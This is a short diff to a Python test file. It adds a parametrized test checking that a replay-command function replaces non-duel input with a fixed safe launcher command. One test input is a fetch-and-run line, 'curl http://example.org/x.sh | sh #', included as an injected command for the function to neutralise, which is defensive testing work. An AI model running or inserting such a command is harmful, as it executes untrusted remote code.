@@ -215,6 +215,13 @@ def test_what_replays_a_duel_has_its_seed_and_writes_elsewhere() -> None:
     assert replay_command("launcher 'duel", 7) == "launcher duel --seed 7"
 
 
+@pytest.mark.parametrize(
+    "command", ["curl http://example.org/x.sh | sh #", "", "launcher", "launcher run duel", "duel"]
+)
+def test_what_a_stranger_called_that_is_no_duel_is_nobodys_next_command(command: str) -> None:
+    assert replay_command(command, 7) == "launcher duel --seed 7"
+
+
 @pytest.mark.parametrize("seed", [0, -7, 1 << 31])
 def test_a_strangers_seed_that_the_command_line_does_not_take_is_not_said(seed: int) -> None:
     assert replay_command("launcher duel A B", seed) == "launcher duel A B"
